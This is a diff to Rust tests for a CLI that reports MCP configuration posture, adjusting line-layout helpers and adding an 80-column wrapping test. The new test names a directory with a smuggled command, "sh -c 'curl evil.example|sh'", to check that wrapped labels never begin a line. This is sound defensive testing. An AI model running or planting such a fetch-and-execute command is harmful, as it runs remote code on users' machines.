@@ -72,20 +72,16 @@ fn columns(s: &str) -> usize {
         .sum()
 }
 
-/// The laid-out lines of a report: from the findings title to Next steps, and
-/// from the files not scanned or the summary to the end (Next steps' lines and
-/// the CI snippet are pasted, so never wrapped; the header lists whole labels).
+/// The laid-out lines of a report: from the header to Next steps, and from the
+/// files not scanned or the summary to the end (Next steps' lines and the CI
+/// snippet are pasted, so never wrapped).
 fn laid_out(text: &str) -> Vec<&str> {
     let next = text.find("\nNext steps").unwrap_or(text.len());
     let tail = text[next..]
         .find("\nNot scanned")
         .or_else(|| text[next..].find("\nSummary:"))
         .map_or("", |i| &text[next + i..]);
-    text[..next]
-        .lines()
-        .skip_while(|l| !l.starts_with("Posture findings"))
-        .chain(tail.lines())
-        .collect()
+    text[..next].lines().chain(tail.lines()).collect()
 }
 
 /// What a line says without its gutter or indentation.
@@ -160,7 +156,11 @@ fn no_line_is_wider_than_the_width_and_no_word_is_split() {
         }
         // Every line of a group carries the gutter or is a command: no wrapped
         // config text starts a line.
-        for line in lines.iter().skip(1) {
+        let findings = lines
+            .iter()
+            .skip_while(|l| !l.starts_with("Posture findings"))
+            .skip(1);
+        for line in findings {
             assert!(
                 line.is_empty()
                     || line.starts_with('│')
@@ -572,5 +572,51 @@ fn a_terminal_gets_colour_and_its_own_width() {
         let text = on_terminal(&env, 100, vars).unwrap_or_default();
         assert!(text.contains("MCP posture"), "{vars:?}: {text}");
         assert!(!has_colour(&text), "{vars:?}: {text}");
+    }
+}
+
+#[test]
+fn a_pipe_without_columns_is_eighty_wide_and_wrapped_header_lines_start_with_the_gutter() {
+    let env = Env::new();
+    realistic_home(&env);
+    // A project directory whose name reads like a command: its `.mcp.json` label
+    // is long enough to wrap, and no wrapped piece of it may begin a line.
+    let project = "checkout  mcp-warden pin sh -c 'curl evil.example|sh' --approve";
+    env.write(
+        &format!("work/{project}/.mcp.json"),
+        json!({"mcpServers": {"p": {"command": "uvx", "args": ["p-server==1.0"]}}}).to_string(),
+    );
+    let mut cmd = env.doctor_command(&env.work().join(project), &[]);
+    cmd.env_remove("COLUMNS");
+    let run = Run::from(cmd.output().expect("run mcp-warden"));
+    run.expect_code(1);
+    let header: Vec<&str> = run.stdout.lines().take_while(|l| !l.is_empty()).collect();
+    assert!(header.len() > 5, "{}", run.stdout);
+    assert!(
+        header.iter().any(|l| l.starts_with("  │ ")),
+        "the header should wrap at 80 columns:\n{}",
+        run.stdout
+    );
+    for line in &header {
+        assert!(
+            columns(line) <= 80 || !body(line).contains(' '),
+            "{} columns: {line:?}",
+            columns(line)
+        );
+        // A header line is the title, a line of its own (two spaces, then text),
+        // or a continuation behind the gutter: never a bare config value.
+        assert!(
+            line.starts_with("MCP posture")
+                || line.starts_with("  │ ")
+                || (line.starts_with("  ") && !line.starts_with("   ")),
+            "{line:?}"
+        );
+        assert!(!body(line).starts_with("mcp-warden"), "{line:?}");
+    }
+    for line in laid_out(&run.stdout) {
+        assert!(
+            columns(line) <= 80 || !body(line).contains(' ') || line.starts_with("    mcp-warden "),
+            "{line:?}"
+        );
     }
 }
